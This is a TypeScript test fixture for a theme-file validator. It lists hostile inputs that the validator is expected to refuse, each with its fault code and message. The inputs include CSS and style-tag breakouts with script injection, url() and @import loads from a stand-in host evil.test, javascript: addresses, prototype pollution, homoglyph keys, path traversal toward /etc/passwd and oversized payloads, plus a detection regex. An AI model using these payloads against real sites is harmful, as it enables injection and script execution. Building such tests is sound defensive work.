/** A hostile theme file with the fault code and message that its author must get. */
export type Attack = readonly [promise: string, input: unknown, code: string, message: RegExp]

const good = { brand: '#7c3aed' }
const override = (id: string, value: unknown) => ({ ...good, overrides: { all: { [id]: value } } })
const overlay = (choices: object) => ({
  ...good,
  overlays: { fair: { from: '2027-01-01', until: '2027-01-31', ...choices } },
})
const color = (text: string) => override('color.canvas', text)

const COLOR = /^expected a colour like "#7c3aed"/
const LENGTH = /^expected a number of px from -512 to 2048 or a length like/
const EASING = /^expected one of "linear", "standard"/

const endings: readonly Attack[] = [
  [
    'closes the rule from a colour',
    { brand: 'red} body{background:url(https://evil.test/x)} .z{color:red' },
    'value.type',
    COLOR,
  ],
  ['closes the style element', { brand: '#fff</style><script>alert(1)</script>' }, 'value.type', COLOR],
  ['closes the style element in capitals', { brand: '</STYLE >' }, 'value.type', COLOR],
  ['ends the declaration', color('#fff;color:red'), 'value.type', COLOR],
  ['ends a hex colour with a line break', color('#ffffff\n}'), 'value.type', COLOR],
  ['opens a comment', color('#fff/*'), 'value.type', COLOR],
  ['closes a comment', color('*/#fff'), 'value.type', COLOR],
  ['opens an SGML comment', color('<!--#fff'), 'value.type', COLOR],
  ['makes a colour important', color('#fff!important'), 'value.type', COLOR],
  ['uses a null character', color('#fff\u0000}'), 'value.type', COLOR],
  [
    'writes a raw control character into the file',
    '{"brand": "#fff\u0000"}',
    'json.syntax',
    /^a control character stands in the text/,
  ],
  ['hides a brace by a CSS escape', color('#fff\\7d '), 'value.type', COLOR],
  ['hides a brace by a JSON escape', '{"brand": "#fff\\u007d body{}"}', 'value.type', COLOR],
  ['writes digits that only look like digits', { brand: '#７c3aed' }, 'value.type', COLOR],
  [
    'ends a length with a unit that closes the rule',
    override('space.1', { value: 1, unit: 'px}body{' }),
    'value.choice',
    /^expected one of "px", "rem", "em"/,
  ],
  ['ends a keyword', override('textTransform.label', 'none;}'), 'value.choice', /^expected one of "none", "uppercase"/],
  [
    'ends a corner',
    override('corner.card', 'round}*{display:none'),
    'value.choice',
    /^expected one of "round", "squircle"/,
  ],
]

const functions: readonly Attack[] = [
  ['loads a file by url()', color('url(https://evil.test/x)'), 'value.type', COLOR],
  ['hides url by a CSS escape', color('\\75 rl(https://evil.test)'), 'value.type', COLOR],
  ['loads a file by image-set()', color('image-set("https://evil.test/x" 1x)'), 'value.type', COLOR],
  ['loads a file by src()', color('src("https://evil.test/x")'), 'value.type', COLOR],
  [
    'loads a file by cross-fade()',
    override('gradient.hero', 'cross-fade(url(x), red)'),
    'value.type',
    /^expected a list of 0 to 3/,
  ],
  ['paints an element', override('texture.canvas', 'element(#password)'), 'value.type', /^expected an object/],
  ['imports a sheet', color('#fff;@import "https://evil.test/x.css"'), 'value.type', COLOR],
  ['declares a font face', color('#fff}@font-face{font-family:x;src:url(//evil.test)}'), 'value.type', COLOR],
  ['calls expression()', override('space.1', 'expression(alert(1))'), 'value.type', LENGTH],
  [
    'binds a script by -moz-binding',
    override('space.1', '0;-moz-binding:url(//evil.test/x.xml#x)'),
    'value.type',
    LENGTH,
  ],
  ['runs a behaviour', override('space.1', '0;behavior:url(x.htc)'), 'value.type', LENGTH],
  ['names a javascript: address', color('javascript:alert(1)'), 'value.type', COLOR],
  ['names a data: address', color('data:text/html,<script>'), 'value.type', COLOR],
  ['uses var()', color('var(--lv-color-action-bg)'), 'value.type', COLOR],
  ['makes a variable refer to itself', color('var(--lv-color-canvas)'), 'value.type', COLOR],
  ['uses env()', override('space.1', 'env(safe-area-inset-top)'), 'value.type', LENGTH],
  ['uses attr()', override('space.1', 'attr(data-token px)'), 'value.type', LENGTH],
  ['uses if()', color('if(style(--x: 1): red)'), 'value.type', COLOR],
  ['uses calc()', override('space.1', 'calc(1px + 1px)'), 'value.type', LENGTH],
  ['uses color-mix()', color('color-mix(in srgb, red, blue)'), 'value.type', COLOR],
  ['uses a system colour', color('CanvasText'), 'value.type', COLOR],
  ['uses a named colour', { brand: 'rebeccapurple' }, 'value.type', COLOR],
  ['uses currentColor', color('currentColor'), 'value.type', COLOR],
  [
    'writes a gradient of strings',
    override('gradient.canvas', ['linear-gradient(red, url(x))']),
    'value.type',
    /^expected a gradient layer with stops/,
  ],
  [
    'writes a gradient stop that is text',
    override('gradient.canvas', [
      {
        stops: [
          { color: '#fff', at: '0%,url(x)' },
          { color: '#000', at: 100 },
        ],
      },
    ]),
    'value.type',
    /^expected percent from 0 to 100/,
  ],
  ['writes an easing that calls', override('easing.standard', 'steps(1);}'), 'value.choice', EASING],
  [
    'writes an easing out of time',
    override('easing.standard', [9, 0, 0, 1]),
    'value.type',
    /^expected a number from -2 to 3/,
  ],
  [
    'writes a pattern of its own',
    override('texture.canvas', { pattern: 'url(x)', color: '#fff', size: 9 }),
    'value.choice',
    /^expected one of "none", "grid"/,
  ],
]

const names: readonly Attack[] = [
  [
    'invents a leaf to smuggle a property name',
    override('color.canvas;}body{background:url(x)}', '#fff'),
    'key.unknown',
    /^unknown leaf "color\.canvas;\}body/,
  ],
  ['invents a leaf that closes the element', override('</style>', '#fff'), 'key.unknown', /^unknown leaf "<\/style>"/],
  [
    'invents a leaf of the private palette',
    override('ref.brand.500', '#fff'),
    'key.unknown',
    /^unknown leaf "ref\.brand\.500"/,
  ],
  [
    'names a leaf by its CSS variable',
    override('--lv-color-canvas', '#fff'),
    'key.unknown',
    /^unknown leaf "--lv-color-canvas"/,
  ],
  ['writes a brand with a Cyrillic letter', { brаnd: '#fff' }, 'key.unknown', /^unknown key "br\\u\{430\}nd"$/],
  [
    'writes a leaf with a Cyrillic letter',
    override('color.cаnvas', '#fff'),
    'key.unknown',
    /^unknown leaf "color\.c\\u\{430\}nvas"$/,
  ],
  [
    'turns the direction of a key',
    { ...good, '\u202Edna\u202Crb': '#fff' },
    'key.unknown',
    /^unknown key "\\u\{202e\}dna\\u\{202c\}rb"$/,
  ],
  [
    'puts an invisible letter into a key',
    { ...good, 'acc\u200Bent': '#fff' },
    'key.unknown',
    /^unknown key "acc\\u\{200b\}ent"$/,
  ],
  ['turns the direction of a value', { ...good, depth: '\u202Etalf' }, 'value.choice', /^expected one of "flat"/],
  [
    'overrides the prototype',
    '{"brand": "#fff", "__proto__": {"brand": "red"}}',
    'key.unknown',
    /^unknown key "__proto__"/,
  ],
  ['overrides the constructor', { ...good, constructor: {} }, 'key.unknown', /^unknown key "constructor"/],
  [
    'overrides the prototype of overrides',
    '{"brand": "#fff", "overrides": {"__proto__": {"color.canvas": "#000"}}}',
    'key.unknown',
    /^unknown key "__proto__"/,
  ],
  [
    'overrides the prototype of leaves',
    '{"brand": "#fff", "overrides": {"all": {"__proto__": "#000"}}}',
    'key.unknown',
    /^unknown leaf "__proto__"/,
  ],
  ['names a leaf that every object has', override('toString', '#000'), 'key.unknown', /^unknown leaf "toString"/],
  [
    'chooses a word that every object has',
    { ...good, depth: 'constructor' },
    'value.choice',
    /^expected one of "flat"/,
  ],
  [
    'chooses a pairing that every object has',
    { ...good, type: { Latn: '__proto__' } },
    'value.choice',
    /^expected one of "system"/,
  ],
  ['says a key twice', '{"brand": "#fff", "brand": "#000"}', 'key.duplicate', /^key "brand" appears twice/],
  [
    'names a free font family',
    override('font.body', 'Comic Sans", url(x)'),
    'theme.font',
    /^font families are not overridden one by one/,
  ],
  [
    'names a family with quotes in its pairing',
    { ...good, type: { Latn: '"Evil", url("x")' } },
    'value.choice',
    /^expected one of "system"/,
  ],
  [
    'names a pairing that closes the rule',
    { ...good, type: { Latn: 'system"}body{' } },
    'value.choice',
    /^expected one of "system"/,
  ],
  [
    'names a script of its own',
    { ...good, type: { 'Latn]{}*{': 'system' } },
    'key.unknown',
    /^unknown key "Latn\]\{\}\*\{"/,
  ],
  ['extends a path', { ...good, extends: '../../../etc/passwd' }, 'value.type', /^expected the id of a theme/],
  ['extends what is not there', { ...good, extends: 'evil' }, 'theme.extends', /^there is no theme "evil"/],
  [
    'points the schema at a script',
    { ...good, $schema: 'javascript:alert("x")</style>' },
    'value.type',
    /^expected the address of the schema/,
  ],
  [
    'states a contract that is markup',
    { ...good, contract: '<img>' },
    'theme.contract',
    /^contract "<img>" is not known here/,
  ],
  [
    'names an overlay that closes the rule',
    { ...good, overlays: { 'x}body{': {} } },
    'key.name',
    /^expected a name of small letters/,
  ],
  [
    'names an overlay after the prototype',
    '{"brand": "#fff", "overlays": {"__proto__": {"from": "2027-01-01", "until": "2027-01-02"}}}',
    'key.name',
    /^expected a name of small letters/,
  ],
  ['closes the rule in an overlay', overlay({ accent: '#fff}' }), 'value.type', COLOR],
  ['takes the brand by an overlay', overlay({ brand: '#000' }), 'key.unknown', /^unknown key "brand"/],
  [
    'hides the text by an overlay',
    overlay({ overrides: { all: { 'color.text.default': '#fff' } } }),
    'theme.overlay',
    /^an overlay cannot set this leaf/,
  ],
  ['changes the age mark', override('color.compliance.ageBg', '#fff'), 'theme.locked', /^this leaf is locked/],
  ['begins an overlay with markup', overlay({ from: '2027-01-01</style>' }), 'value.type', /^expected a day like/],
]

const sizes: readonly Attack[] = [
  ['writes a huge colour', { brand: `#${'f'.repeat(100_000)}` }, 'value.type', COLOR],
  [
    'writes a huge file',
    `{"brand": "#fff"${' '.repeat(600 * 1024)}}`,
    'json.size',
    /^the file has \d+ characters, at most 524288 are read/,
  ],
  [
    'writes a huge key',
    { ...good, ['k'.repeat(400_000)]: 1 },
    'key.unknown',
    /^unknown key "k+… \(400002 characters\)$/,
  ],
  ['nests without end', `{"brand": ${'['.repeat(50_000)}`, 'json.depth', /^nested more than 64 levels deep/],
  [
    'writes 40,000 keys',
    `{"brand": "#fff",${Array.from({ length: 40_000 }, (_, at) => `"k${at}":1`).join()}}`,
    'key.many',
    /^39950 more unknown entries are not listed/,
  ],
  [
    'writes 20,000 leaves',
    { ...good, overrides: { all: Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`color.x${at}`, 1])) } },
    'key.many',
    /^19950 more unknown entries/,
  ],
  [
    'writes a thousand overlays',
    { ...good, overlays: Object.fromEntries(Array.from({ length: 1_000 }, (_, at) => [`o${at}`, {}])) },
    'value.type',
    /^expected an object of at most 12/,
  ],
  [
    'writes a thousand shadows',
    override('shadow.raised', Array(1000).fill({ color: '#000' })),
    'value.type',
    /^expected a list of 0 to 4/,
  ],
  [
    'writes a thousand gradient stops',
    override('gradient.hero', [{ stops: Array(1000).fill({ color: '#000', at: 0 }) }]),
    'value.type',
    /^expected a list of 2 to 6/,
  ],
  ['writes a huge number', override('space.1', 1e308), 'value.type', /^expected a number of px from -512 to 2048/],
  ['writes an infinite number', '{"brand": "#fff", "overrides": {"all": {"space.1": 1e999}}}', 'value.type', /./],
  ['writes a number in words', override('space.1', 'NaN'), 'value.type', LENGTH],
  ['writes a negative radius', override('radius.card', -1), 'value.type', /^expected a number of px from 0 to 999/],
  ['writes a length in a list', override('space.1', [[[]]]), 'value.type', /./],
  ['writes nothing where a colour stands', { brand: null }, 'value.type', COLOR],
  ['is a list', [], 'value.type', /^expected a theme: an object/],
  ['is a text', '"#fff"', 'value.type', /^expected a theme: an object/],
  ['is nothing', '', 'json.empty', /^the file is empty/],
  ['is code', 'alert(1)', 'json.syntax', /^this is not JSON/],
]

/** Every attack we know of; each is refused with a message that says why. */
export const attacks: readonly Attack[] = [...endings, ...functions, ...names, ...sizes]

/** Patterns that must never reach a style sheet, whatever the theme file contains. */
export const LIVE =
  /url\s*\(|image-set|@import|@font-face|expression|behavior|-moz-binding|<\/|<!--|javascript:|data:|\\|var\s*\(|env\s*\(|attr\s*\(|!important|\/\*|evil/i
